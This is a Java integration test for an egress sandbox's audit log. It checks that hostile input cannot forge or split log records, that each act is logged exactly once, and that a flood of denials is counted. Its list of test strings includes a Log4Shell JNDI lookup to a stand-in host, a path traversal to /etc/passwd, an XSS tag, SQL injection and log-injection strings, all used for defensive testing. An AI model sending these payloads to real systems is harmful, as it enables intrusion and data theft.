package dev.glovebox.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.glovebox.egress.audit.AuditConfig;
import dev.glovebox.egress.audit.AuditLog;
import dev.glovebox.egress.audit.AuditTrail;
import dev.glovebox.protocol.Json;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/// J3, J5, B21: a sandbox that writes into the audit log what it can, leaves out of it what it can,
/// and fills it as fast as it can.
@SuppressWarnings("StringConcatToTextBlock") // a text block has no CRLF
class AuditAttackIT {
    /// Strings that have made trouble in logs.
    private static final List<String> NAUGHTY =
            List.of(
                    "a\r\nb",
                    "a\nb",
                    "a\"},{\"event\":\"answer\"",
                    "\u0000",
                    "\u001b[31mred\u001b[0m",
                    "\u2028\u2029",
                    "\u202eevil",
                    "${jndi:ldap://evil.test/a}",
                    "%n%s%x%d",
                    "{0}{}",
                    "<script>alert(1)</script>",
                    "' OR 1=1 --",
                    "\\u0022",
                    "\ud83d\ude00",
                    "\u0007\b\f",
                    "../../etc/passwd",
                    "a\tb",
                    "\u0080\u009b31m",
                    "\uffff",
                    "",
                    " ",
                    "NULL",
                    "a".repeat(5000));

    @TempDir Path directory;
    private DoorRig rig;
    private AuditLog log;
    private RawServer server;
    private Door door;

    @BeforeEach
    void open() throws Exception {
        log = AuditLog.open(AuditConfig.at(directory.resolve("audit")));
        rig = new DoorRig(directory, usual -> usual.withAudit(log));
        server = new RawServer(RawServer::echoes);
        door =
                rig.open(
                        "one",
                        """
                        rules:
                          - {name: web, host: good.test, protocol: http, action: allow, connect: "127.0.0.1:%d", methods: [GET, POST]}
                        """
                                .formatted(server.port()));
    }

    @AfterEach
    void close() throws Exception {
        rig.close();
        log.close();
        server.close();
    }

    private List<String> lines() throws IOException {
        List<String> lines = new ArrayList<>();
        try (Stream<Path> files = Files.list(directory.resolve("audit"))) {
            for (Path file :
                    files.filter(each -> each.toString().endsWith(".jsonl")).sorted().toList()) {
                lines.addAll(List.of(Files.readString(file).split("\n", -1)));
            }
        }
        lines.removeIf(String::isEmpty);
        return lines;
    }

    private List<JsonNode> records(String event, String verdict) throws IOException {
        List<JsonNode> found = new ArrayList<>();
        new AuditTrail(directory.resolve("audit"))
                .query(
                        record ->
                                record.path("event").asString("").equals(event)
                                        && record.path("verdict").asString("").equals(verdict),
                        found::add);
        return found;
    }

    private String say(String request) throws IOException {
        try (Socket socket = rig.connect(door, "good.test", 80)) {
            socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
            return Client.rest(socket);
        }
    }

    private static String get(String path, String headers) {
        return "GET "
                + path
                + " HTTP/1.1\r\nHost: good.test\r\n"
                + headers
                + "Connection: close\r\n\r\n";
    }

    /// J3.
    @Test
    void whatASandboxSays_staysOneRecordALine() throws Exception {
        Client client = new Client(door);
        for (String each : NAUGHTY) {
            byte[] label = each.getBytes(StandardCharsets.UTF_8);
            client.ask("198.18.0.1", query(Arrays.copyOf(label, Math.min(label.length, 63))));
            say(get("/" + each, ""));
            say(get("/?" + each, ""));
            say(get("/ok", "Host: " + each + "\r\n"));
            say(each + " / HTTP/1.1\r\nHost: good.test\r\n\r\n");
            say("GET / HTTP/1.1\r\nHost: " + each + "\r\n\r\n");
        }
        assertThat(say(get("/last", ""))).contains("200 OK");
        await().until(() ->
                !records("end", "").isEmpty()
                        && lines().stream().anyMatch(line -> line.contains("/last")));
        List<String> lines = lines();
        assertThat(lines).hasSizeGreaterThan(2 * NAUGHTY.size());
        for (String line : lines) {
            assertThat(line.chars())
                    .as(line)
                    .allMatch(c ->
                            (c >= ' ' && c < 0x7f) || (c > 0x9f && c != 0x2028 && c != 0x2029));
            assertThat(Json.tree(line).path("event").asString())
                    .isIn("connection", "request", "end", "anchor", "missed");
        }
        assertThat(new AuditTrail(directory.resolve("audit")).verify(Optional.empty()))
                .isInstanceOf(AuditTrail.Verdict.Whole.class);
    }

    private static byte[] query(byte[] label) {
        ByteBuffer out = ByteBuffer.allocate(200);
        out.putShort((short) 7)
                .putShort((short) 0x0100)
                .putShort((short) 1)
                .putInt(0)
                .putShort((short) 0);
        if (label.length > 0) {
            out.put((byte) label.length).put(label);
        }
        out.put((byte) 4).put("test".getBytes(StandardCharsets.US_ASCII)).put((byte) 0);
        out.putShort((short) 1).putShort((short) 1);
        return Arrays.copyOf(out.array(), out.position());
    }

    /// J5: an act is one record, however it is done.
    @Test
    void everyActIsOnRecordOnce() throws Exception {
        for (int i = 0; i < 5; i++) {
            assertThat(
                            say(
                                    "GET /a HTTP/1.1\r\nHost: good.test\r\n\r\nGET /b HTTP/1.1\r\nHost: good.test\r\n\r\n"
                                            + get("/c", "")))
                    .contains("200 OK");
        }
        for (int i = 0; i < 4; i++) {
            assertThat(say("DELETE /d HTTP/1.1\r\nHost: good.test\r\n\r\n")).contains("403");
        }
        Client client = new Client(door);
        for (int i = 1; i <= 6; i++) {
            assertThat(client.say("203.0.113." + i, 80, get("/e", ""))).contains("403");
        }
        await().until(() -> records("end", "").size() == 9);
        assertThat(records("connection", "allow")).hasSize(9);
        assertThat(records("request", "allow"))
                .extracting(record -> record.path("path").asString())
                .hasSize(15)
                .containsOnly("/a", "/b", "/c");
        assertThat(records("request", "deny"))
                .extracting(record -> record.path("path").asString())
                .containsExactly("/d", "/d", "/d", "/d");
        assertThat(records("connection", "deny")).hasSize(6);
        assertThat(server.heads()).hasSize(15);
    }

    /// B21: what is not written is counted, and the count is right.
    @Test
    void floodOfRefusals_isCountedExactly() throws Exception {
        int told = 0;
        InetAddress address = InetAddress.ofLiteral("203.0.113.9");
        Client client = new Client(door);
        for (; told < 300; told++) {
            try (Socket socket = client.connect(address, 9)) {
                Client.rest(socket);
            } catch (IllegalStateException e) {
                // reset already while it connected
            }
        }
        for (; told < 20_000; told++) {
            door.deny("host" + told + ".test", 443, "no rule");
        }
        int[] all = {told};
        await().until(() -> {
            door.deny("later.test", 443, "no rule");
            all[0]++;
            return counted() == all[0];
        });
        assertThat(lines()).hasSizeLessThan(5_000);
    }

    private long counted() throws IOException {
        long missed = 0;
        List<JsonNode> records = new ArrayList<>();
        new AuditTrail(directory.resolve("audit"))
                .query(record -> record.path("event").asString("").equals("missed"), records::add);
        for (JsonNode each : records) {
            missed += each.path("count").asLong();
        }
        return missed + records("connection", "deny").size();
    }
}
